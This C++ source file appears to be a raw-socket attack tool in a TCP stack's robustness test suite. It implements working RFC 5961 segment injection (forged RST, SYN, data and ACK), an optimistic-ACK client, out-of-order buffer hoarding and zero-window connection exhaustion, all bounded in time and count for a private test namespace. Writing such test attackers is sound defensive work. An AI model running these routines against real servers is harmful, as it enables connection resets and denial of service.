// tcp_attack: the raw-socket attacker of the fault suite's attack cases
// (tests/robust/attack_test.sh). It speaks TCP itself through raw sockets (IP_HDRINCL to send; an
// IPPROTO_TCP raw socket sees a copy of every segment the namespace's kernel receives), so the
// script must drop the RSTs the kernel sends for connections it does not know (nftables on the
// attacker's source ports).
//
//   tcp_attack inject  SRC SPORT DST DPORT SECONDS RATE COUNT
//       forges RST, SYN, data and ACK segments with the 4-tuple SRC:SPORT -> DST:DPORT of a live
//       connection: half blind (random sequence and acknowledgment numbers), half in the
//       receive window learnt from the segments DST sends to SRC (RST and SYN in the window but
//       not at RCV.NXT, data in the window with an ACK below SND.UNA - MAX.SND.WND, an ACK above
//       SND.NXT), as RFC 5961 sections 3, 4 and 5 describe.
//   tcp_attack optack  SRC SPORT DST DPORT PATH MODE OUT SECONDS
//       a TCP client (window 65535, no scaling, no SACK) that GETs PATH and writes the body to
//       OUT. MODE honest: it ACKs what it received. MODE optimistic: after the initial window it
//       withholds every real ACK for 1 s and sends only ACKs of data the server cannot have sent
//       yet (above SND.NXT: beyond what it received plus its whole window), then finishes with
//       each real ACK followed by two such ACKs. MODE honest withholds its ACKs for the same
//       second, so the two runs compare.
//   tcp_attack hoard   SRC SPORT DST DPORT SEGMENTS SECONDS
//       one connection that sends SEGMENTS out-of-order 1000-byte segments, each leaving a hole
//       of 1000 bytes before it, the first one past a hole at RCV.NXT, spread over about 1 MiB of
//       sequence space again and again (window scaling on), and keeps the holes unfilled.
//   tcp_attack zerowin SRC SPORT0 DST DPORT N PATH SECONDS
//       N connections from SPORT0.. that each GET PATH with a zero window and answer every probe
//       with a zero window for SECONDS, then reset.
//
// Each mode prints one line of what it sent and saw. Every loop is bounded in time and count.
// Needs CAP_NET_RAW; run it only in a namespace of the test's own.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <string>
#include <vector>

#include "tests/robust/raw_util.h"

namespace {

using namespace shake::robust;  // the tools' shared pieces (raw_util.h)

uint32_t Rand32() { return static_cast<uint32_t>(Next() >> 16); }

// Sequence comparison modulo 2^32 (RFC 9293 3.4).
bool SeqLt(uint32_t a, uint32_t b) { return static_cast<int32_t>(a - b) < 0; }

namespace flag {
constexpr uint8_t kFin = 0x01, kSyn = 0x02, kRst = 0x04, kPsh = 0x08, kAck = 0x10;
}

struct Segment {  // a TCP segment as received
  uint32_t src = 0, dst = 0;
  uint16_t sport = 0, dport = 0;
  uint32_t seq = 0, ack = 0;
  uint8_t flags = 0;
  uint16_t window = 0;
  const uint8_t* data = nullptr;
  size_t len = 0;
};

class Raw {
 public:
  bool Open() {
    tx_ = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    rx_ = socket(AF_INET, SOCK_RAW, IPPROTO_TCP);
    if (tx_ < 0 || rx_ < 0) {
      std::fprintf(stderr, "tcp_attack: raw socket: %s\n", std::strerror(errno));
      return false;
    }
    int big = 8 << 20;
    setsockopt(rx_, SOL_SOCKET, SO_RCVBUF, &big, sizeof big);
    setsockopt(rx_, SOL_SOCKET, SO_RCVBUFFORCE, &big, sizeof big);
    return true;
  }
  // Sends one segment; options are `opt` (a multiple of 4 bytes).
  bool Send(uint32_t src, uint16_t sport, uint32_t dst, uint16_t dport, uint32_t seq, uint32_t ack,
            uint8_t flags, uint16_t window, const uint8_t* data, size_t len,
            const uint8_t* opt = nullptr, size_t optlen = 0) {
    uint8_t pkt[1600];
    const size_t thl = 20 + optlen, total = 20 + thl + len;
    if (total > sizeof pkt) return false;
    std::memset(pkt, 0, 20 + thl);
    pkt[0] = 0x45;
    Put16(pkt + 2, static_cast<uint16_t>(total));
    Put16(pkt + 4, static_cast<uint16_t>(Next()));
    pkt[6] = 0x40;  // DF
    pkt[8] = 64;
    pkt[9] = IPPROTO_TCP;
    Put32(pkt + 12, src);
    Put32(pkt + 16, dst);
    Put16(pkt + 10, Fold(Sum(pkt, 20)));
    uint8_t* t = pkt + 20;
    Put16(t, sport);
    Put16(t + 2, dport);
    Put32(t + 4, seq);
    Put32(t + 8, ack);
    t[12] = static_cast<uint8_t>((thl / 4) << 4);
    t[13] = flags;
    Put16(t + 14, window);
    if (optlen) std::memcpy(t + 20, opt, optlen);
    if (len) std::memcpy(t + thl, data, len);
    uint8_t pseudo[12];
    std::memcpy(pseudo, pkt + 12, 8);
    pseudo[8] = 0;
    pseudo[9] = IPPROTO_TCP;
    Put16(pseudo + 10, static_cast<uint16_t>(thl + len));
    Put16(t + 16, Fold(Sum(t, thl + len, Sum(pseudo, 12))));
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_addr.s_addr = htonl(dst);
    if (sendto(tx_, pkt, total, 0, reinterpret_cast<sockaddr*>(&to), sizeof to) ==
        static_cast<ssize_t>(total)) {
      ++sent;
      return true;
    }
    ++failed;
    return false;
  }
  // Waits up to `timeout` seconds for a segment from `from` to `to`; false on timeout.
  bool Recv(Segment* s, uint32_t from, uint32_t to, double timeout) {
    const double end = Now() + timeout;
    for (;;) {
      const double left = end - Now();
      ssize_t n = recv(rx_, buf_, sizeof buf_, MSG_DONTWAIT);
      if (n < 0) {
        if (left <= 0) return false;
        pollfd p{rx_, POLLIN, 0};
        poll(&p, 1, static_cast<int>(left * 1000) + 1);
        continue;
      }
      if (n < 40) continue;
      const size_t ihl = (buf_[0] & 15u) * 4;
      const size_t tot = std::min<size_t>(Get16(buf_ + 2), static_cast<size_t>(n));
      if (buf_[9] != IPPROTO_TCP || ihl < 20 || tot < ihl + 20) continue;
      const uint8_t* t = buf_ + ihl;
      const size_t thl = (t[12] >> 4) * 4u;
      if (thl < 20 || ihl + thl > tot) continue;
      s->src = Get32(buf_ + 12);
      s->dst = Get32(buf_ + 16);
      if (s->src != from || s->dst != to) continue;
      s->sport = Get16(t);
      s->dport = Get16(t + 2);
      s->seq = Get32(t + 4);
      s->ack = Get32(t + 8);
      s->flags = t[13];
      s->window = Get16(t + 14);
      s->data = t + thl;
      s->len = tot - ihl - thl;
      return true;
    }
  }
  uint64_t sent = 0, failed = 0;

 private:
  int tx_ = -1, rx_ = -1;
  uint8_t buf_[1 << 17];
};

uint32_t Addr(const char* s) {
  in_addr a{};
  if (inet_pton(AF_INET, s, &a) != 1) {
    std::fprintf(stderr, "tcp_attack: bad address %s\n", s);
    std::exit(2);
  }
  return ntohl(a.s_addr);
}

const uint8_t kMssOpt[4] = {2, 4, 0x05, 0xb4};  // MSS 1460, nothing else: no SACK, no scaling
const uint8_t kMssWsOpt[8] = {2, 4, 0x05, 0xb4, 1, 3, 3, 7};  // MSS 1460, window scale 7

// A client connection driven by hand: our sequence space and what we have received in order.
struct Conn {
  uint16_t sport = 0;
  uint32_t iss = 0, snd_nxt = 0;
  uint32_t rcv_nxt = 0;
  bool established = false, reset = false, fin = false;
};

// Sends a SYN and waits for the SYN-ACK; completes the handshake with `window`.
bool Connect(Raw& raw, Conn& c, uint32_t src, uint32_t dst, uint16_t dport, uint16_t window,
             bool scale = false) {
  c.iss = Rand32();
  for (int attempt = 0; attempt < 3 && !c.established; ++attempt) {
    raw.Send(src, c.sport, dst, dport, c.iss, 0, flag::kSyn, 65535, nullptr, 0,
             scale ? kMssWsOpt : kMssOpt, scale ? 8 : 4);
    Segment s;
    const double end = Now() + 1.0;
    while (Now() < end && raw.Recv(&s, dst, src, end - Now())) {
      if (s.sport != dport || s.dport != c.sport) continue;
      if ((s.flags & (flag::kSyn | flag::kAck)) == (flag::kSyn | flag::kAck) &&
          s.ack == c.iss + 1) {
        c.snd_nxt = c.iss + 1;
        c.rcv_nxt = s.seq + 1;
        c.established = true;
        break;
      }
    }
  }
  if (!c.established) return false;
  raw.Send(src, c.sport, dst, dport, c.snd_nxt, c.rcv_nxt, flag::kAck, window, nullptr, 0);
  return true;
}

// argv[2..5]: SRC SPORT DST DPORT, the attacker's end first.
struct Tuple {
  uint32_t src, dst;
  uint16_t sport, dport;
};
Tuple ParseTuple(char** argv) {
  return {Addr(argv[2]), Addr(argv[4]), static_cast<uint16_t>(std::atoi(argv[3])),
          static_cast<uint16_t>(std::atoi(argv[5]))};
}

std::string Get(const char* path) {
  return std::string("GET ") + path + " HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n";
}

int Inject(int argc, char** argv) {
  if (argc != 9) return 2;
  const auto [src, dst, sport, dport] = ParseTuple(argv);
  const double seconds = std::atof(argv[6]), rate = std::atof(argv[7]);
  const uint64_t count = std::strtoull(argv[8], nullptr, 10);
  if (seconds <= 0 || seconds > 600 || rate <= 0 || count == 0) return 2;
  Raw raw;
  if (!raw.Open()) return 1;
  // What the segments from DST to SRC say: their sequence numbers (the server's SND.NXT side),
  // their ACK (its RCV.NXT) and window.
  bool seen = false;
  uint32_t srv_seq = 0, srv_ack = 0;
  uint16_t srv_win = 0;
  uint64_t n[2][4] = {};  // [blind, in-window][rst, syn, data, ack]
  uint8_t junk[512];
  const double start = Now();
  uint64_t done = 0;
  while (done < count && Now() - start < seconds) {
    Segment s;
    while (raw.Recv(&s, dst, src, 0)) {
      if (s.sport != dport || s.dport != sport) continue;
      srv_seq = s.seq + static_cast<uint32_t>(s.len);
      srv_ack = s.ack;
      srv_win = s.window;
      seen = true;
    }
    if (static_cast<double>(done) >= rate * (Now() - start)) {
      usleep(200);
      continue;
    }
    const int kind = static_cast<int>(done % 4);
    const bool inwin = seen && (done / 4) % 2 == 1;
    uint32_t seq = Rand32(), ack = Rand32();
    if (inwin) {
      // In the window, not at RCV.NXT: 1 .. window-1 past the last ACK seen (the unscaled window
      // field is never more than the scaled window).
      seq = srv_ack + 1 + Rand32() % (srv_win > 2 ? srv_win - 1u : 1u);
      ack = kind == 2 ? srv_seq - (1u << 30)   // below SND.UNA - MAX.SND.WND
                      : srv_seq + (1u << 30);  // above SND.NXT
    }
    size_t len = 0;
    uint8_t flags = 0;
    switch (kind) {
      case 0:
        flags = inwin || Next() % 2 ? flag::kRst : flag::kRst | flag::kAck;
        break;
      case 1:
        flags = flag::kSyn;
        break;
      case 2:
        flags = flag::kAck | flag::kPsh;
        len = 1 + Next() % sizeof junk;
        for (size_t i = 0; i < len; ++i) junk[i] = static_cast<uint8_t>(Next());
        break;
      default:
        flags = flag::kAck;
        break;
    }
    raw.Send(src, sport, dst, dport, seq, ack, flags, static_cast<uint16_t>(Next()), junk, len);
    ++n[inwin][kind];
    ++done;
  }
  std::printf(
      "inject: blind rst=%llu syn=%llu data=%llu ack=%llu in-window rst=%llu syn=%llu "
      "data=%llu ack=%llu sent=%llu failed=%llu seconds=%.1f\n",
      (unsigned long long)n[0][0], (unsigned long long)n[0][1], (unsigned long long)n[0][2],
      (unsigned long long)n[0][3], (unsigned long long)n[1][0], (unsigned long long)n[1][1],
      (unsigned long long)n[1][2], (unsigned long long)n[1][3], (unsigned long long)raw.sent,
      (unsigned long long)raw.failed, Now() - start);
  return 0;
}

int OptAck(int argc, char** argv) {
  if (argc != 10) return 2;
  const auto [src, dst, sport, dport] = ParseTuple(argv);
  const char* path = argv[6];
  const bool optimistic = std::strcmp(argv[7], "optimistic") == 0;
  if (!optimistic && std::strcmp(argv[7], "honest") != 0) return 2;
  const char* out = argv[8];
  const double seconds = std::atof(argv[9]);
  if (seconds <= 0 || seconds > 600) return 2;
  Raw raw;
  if (!raw.Open()) return 1;
  Conn c;
  c.sport = sport;
  constexpr uint16_t kWin = 65535;
  if (!Connect(raw, c, src, dst, dport, kWin)) {
    std::printf("optack: no handshake\n");
    return 1;
  }
  const std::string req = Get(path);
  raw.Send(src, sport, dst, dport, c.snd_nxt, c.rcv_nxt, flag::kAck | flag::kPsh, kWin,
           reinterpret_cast<const uint8_t*>(req.data()), req.size());
  c.snd_nxt += static_cast<uint32_t>(req.size());
  std::vector<uint8_t> stream;
  stream.reserve(64 << 20);
  uint32_t highest = c.rcv_nxt;  // end of the highest byte received, in order or not
  uint64_t segments = 0, pure_acks = 0, opt_sent = 0, answers = 0;
  uint64_t withheld_new = 0;  // bytes above what had arrived when the withheld second began
  const double start = Now();
  // Phases: 0 before the first data; 1 for 0.2 s after it (nothing sent, the initial window
  // settles); 2 for 1 s (withheld: optimistic ACKs only, or nothing); 3 the rest, ACKed.
  int phase = 0;
  double phase_at = 0, last_opt = 0;
  uint32_t mark = 0;
  auto opt_ack = [&](uint32_t base) {  // an ACK the server cannot accept: past all it may send
    const uint32_t a = base + kWin + 1 + static_cast<uint32_t>(Next() % 65536);
    raw.Send(src, sport, dst, dport, c.snd_nxt, a, flag::kAck, kWin, nullptr, 0);
    ++opt_sent;
  };
  auto ack = [&] {
    raw.Send(src, sport, dst, dport, c.snd_nxt, c.rcv_nxt, flag::kAck, kWin, nullptr, 0);
  };
  while (!c.fin && !c.reset && Now() - start < seconds) {
    Segment s;
    const bool got = raw.Recv(&s, dst, src, 0.002);
    const double now = Now();
    if (phase == 1 && now - phase_at >= 0.2) {
      phase = 2;
      phase_at = now;
      mark = highest;
    } else if (phase == 2 && now - phase_at >= 1.0) {
      phase = 3;
      ack();
    }
    if (phase == 2 && optimistic && now - last_opt >= 0.002) {  // about 500 a second
      last_opt = now;
      opt_ack(highest);
    }
    if (!got || s.sport != dport || s.dport != sport) continue;
    if (s.flags & flag::kRst) {
      c.reset = true;
      break;
    }
    ++segments;
    const uint32_t end = s.seq + static_cast<uint32_t>(s.len);
    if (phase == 2 && SeqLt(mark, end)) {
      withheld_new += end - (SeqLt(mark, s.seq) ? s.seq : mark);
      mark = end;
    }
    if (SeqLt(highest, end)) highest = end;
    if (s.len == 0 && !(s.flags & flag::kFin)) {
      ++pure_acks;
      if (phase == 2) ++answers;
      continue;
    }
    bool advanced = false;
    if (s.seq == c.rcv_nxt && s.len != 0) {
      stream.insert(stream.end(), s.data, s.data + s.len);
      c.rcv_nxt += static_cast<uint32_t>(s.len);
      advanced = true;
    } else if (SeqLt(s.seq, c.rcv_nxt) && SeqLt(c.rcv_nxt, end)) {
      const uint32_t skip = c.rcv_nxt - s.seq;
      stream.insert(stream.end(), s.data + skip, s.data + s.len);
      c.rcv_nxt = end;
      advanced = true;
    }
    if ((s.flags & flag::kFin) && s.seq + static_cast<uint32_t>(s.len) == c.rcv_nxt) {
      c.rcv_nxt += 1;
      c.fin = true;
      advanced = true;
    }
    if (phase == 0 && s.len != 0) {
      phase = 1;
      phase_at = now;
    }
    if (phase == 1 || phase == 2) continue;
    ack();  // every segment, in order or not (a duplicate ACK for a hole)
    if (optimistic && !c.fin && advanced) {
      opt_ack(highest);
      opt_ack(highest + (1u << 20));
    }
  }
  const double took = Now() - start;
  // Close politely: our FIN after theirs, or a reset when the run timed out.
  if (c.fin) {
    raw.Send(src, sport, dst, dport, c.snd_nxt, c.rcv_nxt, flag::kFin | flag::kAck, kWin, nullptr,
             0);
  } else {
    raw.Send(src, sport, dst, dport, c.snd_nxt, 0, flag::kRst, 0, nullptr, 0);
  }
  size_t body = 0;
  for (size_t i = 0; i + 3 < stream.size(); ++i) {
    if (std::memcmp(&stream[i], "\r\n\r\n", 4) == 0) {
      body = i + 4;
      break;
    }
  }
  FILE* f = std::fopen(out, "wb");
  if (f == nullptr) return 1;
  if (body) std::fwrite(stream.data() + body, 1, stream.size() - body, f);
  std::fclose(f);
  std::printf(
      "optack: mode=%s end=%s stream=%zu body=%zu seconds=%.2f segments=%llu "
      "pure_acks=%llu optimistic_acks=%llu answered_while_withheld=%llu "
      "new_bytes_while_withheld=%llu\n",
      optimistic ? "optimistic" : "honest",
      c.fin     ? "fin"
      : c.reset ? "reset"
                : "timeout",
      stream.size(), body ? stream.size() - body : 0, took, (unsigned long long)segments,
      (unsigned long long)pure_acks, (unsigned long long)opt_sent, (unsigned long long)answers,
      (unsigned long long)withheld_new);
  return c.fin ? 0 : 1;
}

int Hoard(int argc, char** argv) {
  if (argc != 8) return 2;
  const auto [src, dst, sport, dport] = ParseTuple(argv);
  const uint64_t segments = std::strtoull(argv[6], nullptr, 10);
  const double seconds = std::atof(argv[7]);
  if (segments == 0 || segments > 1000000 || seconds <= 0 || seconds > 600) return 2;
  Raw raw;
  if (!raw.Open()) return 1;
  Conn c;
  c.sport = sport;
  // Window scaling, so that the server's receive window (1 MiB) admits about 500 of them.
  if (!Connect(raw, c, src, dst, dport, 65535, /*scale=*/true)) {
    std::printf("hoard: no handshake\n");
    return 1;
  }
  uint8_t data[1000];
  std::memset(data, 'x', sizeof data);
  const double start = Now();
  uint64_t i = 0, acks = 0, resets = 0;
  uint32_t max_window_field = 0;
  // Spread the segments over the time given (at most 20,000 a second), answering nothing.
  const double rate = std::min(20000.0, static_cast<double>(segments) / (seconds * 0.5));
  while (Now() - start < seconds) {
    Segment s;
    while (raw.Recv(&s, dst, src, 0)) {
      if (s.sport != dport || s.dport != sport) continue;
      if (s.flags & flag::kRst)
        ++resets;
      else
        ++acks;
      max_window_field = std::max<uint32_t>(max_window_field, s.window);
    }
    if (i < segments && static_cast<double>(i) < rate * (Now() - start)) {
      // Segment i covers [1000 + 2000 k, 2000 + 2000 k) past RCV.NXT, k = 263 i mod 520: a
      // hole before each, in an order that spreads the first ones over the whole 1 MiB
      // window (so the ranges kept pin as much of the buffer as they can), again and again.
      const uint32_t seq = c.snd_nxt + 1000 + static_cast<uint32_t>(2000 * ((263 * i) % 520));
      raw.Send(src, sport, dst, dport, seq, c.rcv_nxt, flag::kAck, 65535, data, sizeof data);
      ++i;
    } else {
      usleep(500);
    }
  }
  raw.Send(src, sport, dst, dport, c.snd_nxt, 0, flag::kRst, 0, nullptr, 0);
  std::printf(
      "hoard: segments=%llu acks_back=%llu resets_back=%llu seconds=%.1f "
      "window_field_max=%u (unscaled)\n",
      (unsigned long long)i, (unsigned long long)acks, (unsigned long long)resets, Now() - start,
      max_window_field);
  return 0;
}

int ZeroWin(int argc, char** argv) {
  if (argc != 9) return 2;
  const auto [src, dst, sport0, dport] = ParseTuple(argv);
  const int n = std::atoi(argv[6]);
  const char* path = argv[7];
  const double seconds = std::atof(argv[8]);
  if (n <= 0 || n > 20000 || sport0 + n > 65535 || seconds <= 0 || seconds > 600) return 2;
  Raw raw;
  if (!raw.Open()) return 1;
  std::vector<Conn> conns(static_cast<size_t>(n));
  const std::string req = Get(path);
  const double start = Now();
  // Open them in turn: SYN, then the final ACK and the request with a zero window.
  int opened = 0;
  for (int i = 0; i < n && Now() - start < seconds / 2; ++i) {
    Conn& c = conns[static_cast<size_t>(i)];
    c.sport = static_cast<uint16_t>(sport0 + i);
    if (!Connect(raw, c, src, dst, dport, 0)) continue;
    raw.Send(src, c.sport, dst, dport, c.snd_nxt, c.rcv_nxt, flag::kAck | flag::kPsh, 0,
             reinterpret_cast<const uint8_t*>(req.data()), req.size());
    c.snd_nxt += static_cast<uint32_t>(req.size());
    ++opened;
  }
  const double opened_at = Now() - start;
  uint64_t probes = 0, data_bytes = 0, resets = 0, answered = 0;  // probes: segments back
  while (Now() - start < seconds) {
    Segment s;
    if (!raw.Recv(&s, dst, src, 0.05)) continue;
    if (s.sport != dport || s.dport < sport0 || s.dport >= sport0 + n) continue;
    Conn& c = conns[static_cast<size_t>(s.dport - sport0)];
    if (!c.established) continue;
    if (s.flags & flag::kRst) {
      c.reset = true;
      ++resets;
      continue;
    }
    // A zero-window probe is a segment below SND.UNA without data (Linux's tcp_xmit_probe_skb);
    // data past a zero window would be the server ignoring it. Keep nothing either way.
    ++probes;
    data_bytes += s.len;
    raw.Send(src, c.sport, dst, dport, c.snd_nxt, c.rcv_nxt, flag::kAck, 0, nullptr, 0);
    ++answered;
  }
  int alive = 0;
  for (Conn& c : conns) {
    if (!c.established) continue;
    if (!c.reset) ++alive;
    raw.Send(src, c.sport, dst, dport, c.snd_nxt, 0, flag::kRst, 0, nullptr, 0);
  }
  std::printf(
      "zerowin: opened=%d of %d in %.1f s, alive=%d, segments_back=%llu data_bytes=%llu "
      "answered=%llu resets_back=%llu seconds=%.1f\n",
      opened, n, opened_at, alive, (unsigned long long)probes, (unsigned long long)data_bytes,
      (unsigned long long)answered, (unsigned long long)resets, Now() - start);
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  const char* usage =
      "usage: tcp_attack inject SRC SPORT DST DPORT SECONDS RATE COUNT\n"
      "       tcp_attack optack SRC SPORT DST DPORT PATH honest|optimistic OUT SECONDS\n"
      "       tcp_attack hoard SRC SPORT DST DPORT SEGMENTS SECONDS\n"
      "       tcp_attack zerowin SRC SPORT0 DST DPORT N PATH SECONDS\n";
  if (argc < 2) {
    std::fputs(usage, stderr);
    return 2;
  }
  g_rng ^= static_cast<uint64_t>(getpid()) << 20 ^ static_cast<uint64_t>(Now() * 1e6);
  const std::string mode = argv[1];
  int rc = 2;
  if (mode == "inject")
    rc = Inject(argc, argv);
  else if (mode == "optack")
    rc = OptAck(argc, argv);
  else if (mode == "hoard")
    rc = Hoard(argc, argv);
  else if (mode == "zerowin")
    rc = ZeroWin(argc, argv);
  if (rc == 2) std::fputs(usage, stderr);
  return rc;
}
